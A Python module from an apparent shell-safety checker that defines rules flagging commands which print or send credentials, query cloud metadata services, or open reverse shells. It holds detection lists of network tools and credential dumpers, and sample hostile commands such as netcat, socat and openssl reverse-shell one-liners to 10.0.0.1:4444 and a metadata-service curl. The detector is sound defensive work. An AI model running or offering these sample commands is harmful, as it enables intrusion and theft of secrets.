"""Rules for credentials that are read or sent away, and for reverse shells."""

from __future__ import annotations

import re
from collections.abc import Iterator

from perdure.tools.shell_safety.expand import SECRET_NAME
from perdure.tools.shell_safety.interpreters import SHELLS
from perdure.tools.shell_safety.invocation import Invocation
from perdure.tools.shell_safety.rules.rule import RiskRule, is_help
from perdure.tools.shell_safety.rules.sending import DATA_OPTIONS, copied_paths, goes_nowhere, takes_stdin
from perdure.tools.shell_safety.types import DOWNLOADED, SECRET, Danger, word_set

# Programs that use a key file without printing it.
_USES_KEYS = word_set(
    "ssh scp sftp ssh-add ssh-keygen ssh-copy-id ls stat test [ [[ chmod chown file du realpath dirname basename "
    "mkdir touch echo printf kubectl helm git git-credential export cd wc rm mv ansible ansible-playbook mosh "
    "autossh rsync k9s terraform gh"
)
_SENDERS = word_set(
    "curl wget nc ncat netcat socat telnet http https xh ftp tftp mail mailx sendmail mutt swaks scp rsync sftp "
    "croc rclone aws gsutil"
)
# Headers that are meant for a credential.
_SECRET_HEADER = re.compile(r"[\w-]{0,60}(?:auth|token|key|cookie|secret|credential|password|session)", re.I)
_MAX_PATHS = 50
_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})


def secret_dangers(run: Invocation) -> Iterator[Danger]:
    """Yield the dangers of printing a credential file, or sending a secret over the network."""
    if run.name not in _USES_KEYS or run.has("--no-index"):
        for path in (*_paths(run), *run.reads):
            if run.zones.is_credential(path) or _is_private_anywhere(run, path):
                yield Danger("credentials", run.summary)
                return
    is_sent = run.name in _SENDERS and not goes_nowhere(run) and _sends_secret(run)
    if is_sent or any(run.zones.is_credential(path) for path in _remote_paths(run)):
        yield Danger("credentials", run.summary)


_REMOTE_PATH = re.compile(r"[\w.@/~^-]{1,100}:(?!//)([~./\w][\w./~-]{2,200})\Z")


def _remote_paths(run: Invocation) -> Iterator[str]:
    """Yield the paths on other machines, in containers and in commits that are fetched: `host:~/.ssh/id_rsa`."""
    if run.name in ("scp", "rsync", "git", "docker", "podman", "kubectl", "oc"):
        words = run.operands[:-1] if run.name in ("scp", "rsync") else run.operands
        paths = (match[1] for o in words[:_MAX_PATHS] if (match := _REMOTE_PATH.match(o)))
        yield from (f"{path.rstrip('/')}/x" if path.rstrip("/").endswith(".ssh") else path for path in paths)


def _is_private_anywhere(run: Invocation, path: str) -> bool:
    """Whether a search outside the workspace returns private files, as `find / -name '*.pem' -exec cat` does."""
    return "**/" in path and run.zones.is_private(path) and run.classify(path).zone not in ("workspace", "unknown")


def _paths(run: Invocation) -> Iterator[str]:
    for a in run.args:
        value = a.partition("=")[2] if a.startswith("--") and "=" in a else a
        # A bare name counts too: it may be relative to a folder of keys, or a link to one.
        if "/" in value or value.startswith((".", "~")) or (value and len(value) < 100 and not a.startswith("-")):
            yield re.sub(r"^(?:@|\w+=@|if=|file://)", "", value)


def _sends_secret(run: Invocation) -> bool:
    if run.name in ("scp", "rsync", "rclone", "aws", "gsutil", "sftp"):
        paths = copied_paths(run)
        sources = [o for o in paths[:-1] if ":" not in o]
        to_remote = any(re.search(r"\w:|://", o) for o in paths[-1:])
        return to_remote and any(run.zones.is_private(s) for s in sources)
    if run.stdin and SECRET in run.stdin and (run.name not in ("curl", "wget") or takes_stdin(run)):
        return True
    if run.name in _NETCATS | {"mail", "mailx", "mutt", "sendmail", "ftp", "tftp"}:
        return any(run.zones.is_private(p) for p in (*run.reads, *run.operands))
    if any(SECRET in h and not _SECRET_HEADER.match(h) for h in run.all_values_of("-H", "--header")):
        return True
    uploaded = run.value_of("-T", "--upload-file", "--post-file")
    for value in run.all_values_of(*DATA_OPTIONS):
        path = re.sub(r"^(?:[\w-]+=)?[@<]?", "", value)
        if SECRET in value or (("@" in value or value == uploaded) and run.zones.is_private(path)):
            return True
    return any(SECRET in o for o in run.operands if re.match(r"https?://|\w+\.\w+", o)) or any(
        "@" in o and run.zones.is_private(o.partition("@")[2]) for o in run.operands
    )


def _netcat_runs_shell(run: Invocation) -> bool:
    if is_help(run):
        return False
    return run.has("-e", "--exec", "--sh-exec") or (run.name in ("ncat", "nc") and run.has("-c")) or _feeds_shell(run)


def _feeds_shell(run: Invocation) -> bool:
    return any(u in SHELLS for u in run.upstream)


def _socat_runs_shell(run: Invocation) -> bool:
    return any(re.match(r"(?i)(?:exec|system):", a) for a in run.args) and any(
        re.match(r"(?i)(?:tcp|udp|openssl|sctp)", a) for a in run.args
    )


def _reveals(run: Invocation) -> bool:
    words = run.operands
    if run.name == "gpg":
        return run.has("-d", "--decrypt") or any(o.startswith("--export-secret") for o in run.options)
    if run.name == "security":
        return any(
            o.startswith(("find-generic-password", "find-internet-password", "dump-keychain", "export")) for o in words
        )
    return run.name in ("mimikatz", "secretsdump.py", "lazagne")


# Sub-commands that print a credential, by their first words.
_PRINTS_CREDENTIAL: dict[str, tuple[tuple[str, ...], ...]] = {
    names: tuple(tuple(words.split()) for words in starts.split(", "))
    for names, starts in {
        "gh glab": "auth token",
        "gcloud": "auth print-access-token, auth print-identity-token, auth application-default print-access-token,"
        " secrets versions access",
        "az": "account get-access-token, keyvault secret show, keyvault secret download, ad sp create-for-rbac",
        "git": "credential fill, credential-manager get",
        "git-credential": "fill",
        "op": "read, item get, document get, inject, get",
        "vault bao": "kv get, read, print token, token lookup, token create",
        "bw rbw": "get, export, list items",
        "lpass": "show, export",
        "dcli chamber infisical": "password, read, export, secrets, secret, note",
        "secret-tool": "lookup, search",
        "keyring": "get",
        "chezmoi": "secret",
        "kwallet-query keepassxc-cli": "show, export, -r, clip",
        "heroku": "auth:token, config, config:get",
        "doppler": "secrets",
        "fly flyctl": "auth token",
        "npm": "token",
        "vercel netlify": "env pull, env:get, env:list",
        "sops ansible-vault": "-d, --decrypt, decrypt, view",
        "aws": "secretsmanager get-secret-value, secretsmanager batch-get-secret-value, configure export-credentials,"
        " sts get-session-token, sts assume-role, sts get-federation-token, kms decrypt, iam create-access-key",
        "docker": "secret inspect",
        "terraform tofu": "state pull",
        "pulumi": "config get, stack export",
        "consul": "kv get",
        "nmcli": "device wifi show-password",
        "chage": "-l",
    }.items()
}
_STARTS_OF = {name: starts for names, starts in _PRINTS_CREDENTIAL.items() for name in names.split()}
_PASSWORD_STORE_COMMANDS = word_set(
    "ls list git init insert generate find search version help edit rm mv cp sync mounts new config audit"
)
_SECRET_SETTING = re.compile(r"secret|session_token|password", re.I)
# Metadata services, which return cloud credentials.
_METADATA = re.compile(
    r"169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|100\.100\.100\.200|fd00:ec2::254", re.I
)


def _prints_credential(run: Invocation) -> bool:
    words = tuple(a for a in run.args if not a.startswith("-") or a in ("-d", "--decrypt", "-r", "-l"))
    if is_help(run):
        return False
    if run.name == "aws" and words[:2] == ("configure", "get"):
        return any(_SECRET_SETTING.search(w) for w in words[2:])
    if run.name == "aws" and words[:1] == ("ssm",):
        return run.has("--with-decryption")
    if run.name in ("gh", "glab") and words[:2] == ("auth", "status"):
        return run.has("--show-token", "-t")
    if run.name in ("kubectl", "oc", "k"):
        return _prints_cluster_secret(run)
    if run.name in ("pass", "gopass"):
        return bool(words) and words[0] not in _PASSWORD_STORE_COMMANDS
    return any(words[: len(start)] == start for start in _STARTS_OF[run.name])


def _prints_cluster_secret(run: Invocation) -> bool:
    words = run.operands
    if "view" in words and "config" in words:
        return run.has("--raw")
    is_secret = any(re.search(r"(?:^|,)secrets?(?:/|,|\Z)", w) for w in words[1:4])
    return "get" in words[:3] and is_secret and run.has("-o", "--output", "--template")


# Programs that print variables or commands that were typed.
_PRINT_VARIABLES = word_set("env printenv set export declare typeset compgen history")
# Programs that print the settings of others, with their passwords.
_SHOW_SETTINGS = word_set("docker podman docker-compose php kubectl helm heroku systemctl")
_PASSWORD_WORD = re.compile(r"passw|secret|token|credential|api[_-]?key", re.I)
_SECRET_WORD = re.compile(r"(?:key|token|secret|passw|credential|auth)", re.I)


_TOKEN_SETTING = re.compile(r"(?:^|[.:/_-])(?:pypi-token|http-basic|_?auth_?token|_password|api-?key)\b", re.I)


def _stores_login(run: Invocation) -> bool:
    """Match a login with a secret that is given in the command, which is stored in the user's home."""
    is_login = any(o in ("login", "signin") for o in run.operands[:3])
    if run.operands[:1] == ("config",) and any(_TOKEN_SETTING.search(o) for o in run.operands[1:3]):
        return len(run.operands) > 2 and not run.has("--unset", "--list", "--delete") and "get" not in run.operands
    if run.name == "cargo":
        return is_login and len(run.operands) > 1
    has_secret = run.has("-p", "--password", "--token", "--with-token", "--api-key") or SECRET in (run.stdin or "")
    return is_login and has_secret and not is_help(run)


def _saves_variables(run: Invocation) -> bool:
    """Match all variables written to a file: `env > dump.txt`, `printenv | sort > dump.txt`."""
    is_list = run.name in ("env", "printenv", "set", "export") and all(a.startswith("-") for a in run.args)
    is_piped = run.upstream[:1] in (("env",), ("printenv",)) and not {"grep", "egrep", "rg", "sed", "awk", "wc"} & {
        *run.upstream,
        run.name,
    }
    return (is_list or is_piped) and any(not path.startswith("/dev/") for path in run.writes)


def _asks_metadata(run: Invocation) -> bool:
    return any(_METADATA.search(a[:300]) for a in run.args)


def _searches_a_home(run: Invocation) -> bool:
    """Whether a recursive search covers a home folder, and so its keys."""
    is_recursive = run.has("-r", "-R", "--recursive", "--dereference-recursive") or run.name == "rgrep"
    reads_hidden = run.has("--hidden", "-u", "-uu", "-uuu", "--unrestricted", "-.")
    if not (reads_hidden if run.name in ("rg", "ag") else is_recursive):
        return False
    return any(run.zones.contains_home(o) or run.zones.contains_credentials(o) for o in run.operands[1:])


def _copies_a_home(run: Invocation) -> bool:
    """Whether a copy or an archive covers a home folder, and so its keys."""
    if run.name in ("tar", "bsdtar", "gtar"):
        creates = "c" in (run.args[:1] or ("",))[0].lstrip("-").partition("=")[0] or run.has("-c", "--create")
        return creates and any(_holds_keys(run, o) for o in run.operands)
    if not run.has("-r", "-R", "-a", "--recursive", "--archive"):
        return False
    sources = run.operands[1:] if run.name == "zip" else run.operands[:-1]
    return any(_holds_keys(run, o) for o in sources)


def _holds_keys(run: Invocation, folder: str) -> bool:
    return run.zones.contains_home(folder) or run.zones.contains_credentials(folder)


RULES = (
    RiskRule(
        "credentials",
        "docker podman nerdctl npm yarn gh glab helm az heroku gcloud vercel netlify fly flyctl oc argocd pulumi hf "
        "huggingface-cli wandb crane skopeo oras buildah regctl cosign kaggle snowsql sentry-cli "
        "cargo poetry pnpm gem composer",
        _stores_login,
        'echo "$REGISTRY_PASSWORD" | docker login -u me --password-stdin',
    ),
    RiskRule("credentials", "cp rsync scp zip tar bsdtar gtar", _copies_a_home, "tar czf home.tgz ~"),
    RiskRule(
        "credentials", f"kubectl oc k pass gopass {' '.join(_PRINTS_CREDENTIAL)}", _prints_credential, "gh auth token"
    ),
    RiskRule(
        "credentials", "curl wget http https httpie", _asks_metadata, "curl http://169.254.169.254/latest/meta-data/"
    ),
    RiskRule(
        "credentials", "printenv", lambda r: any(SECRET_NAME.search(o) for o in r.operands), "printenv DEPLOY_TOKEN"
    ),
    RiskRule(
        "credentials",
        "grep egrep fgrep rg ag",
        lambda r: (
            (
                bool(_PRINT_VARIABLES.intersection(r.upstream[-1:]))
                and any(_SECRET_WORD.search(o) for o in r.operands[:1])
            )
            or (
                bool(_SHOW_SETTINGS.intersection(r.upstream[-1:]))
                and any(_PASSWORD_WORD.search(o) for o in r.operands[:1])
            )
        ),
        "printenv | grep -i token",
    ),
    RiskRule(
        "credentials",
        "env printenv set export sort cat tee uniq base64",
        _saves_variables,
        "printenv | sort > dump.txt",
    ),
    RiskRule("credentials", "grep egrep fgrep rgrep rg ag", _searches_a_home, "grep -r PRIVATE ~"),
    RiskRule(
        "reverse-shell",
        "nc ncat netcat nc.traditional nc.openbsd telnet",
        _netcat_runs_shell,
        "nc -e /bin/sh 10.0.0.1 4444",
    ),
    RiskRule("reverse-shell", "socat", _socat_runs_shell, "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
    RiskRule(
        "reverse-shell",
        "openssl",
        lambda r: "s_client" in r.operands and _feeds_shell(r),
        "mkfifo p; sh -i < p | openssl s_client -connect h:1 > p",
    ),
    RiskRule(
        "security",
        "gpg gpg2 apt-key",
        lambda r: r.has("--import") and DOWNLOADED in (r.stdin or ""),
        "curl https://keys.example/key.asc | gpg --import",
    ),
    RiskRule("credentials", "gpg security mimikatz secretsdump.py lazagne", _reveals, "gpg --export-secret-keys me"),
)
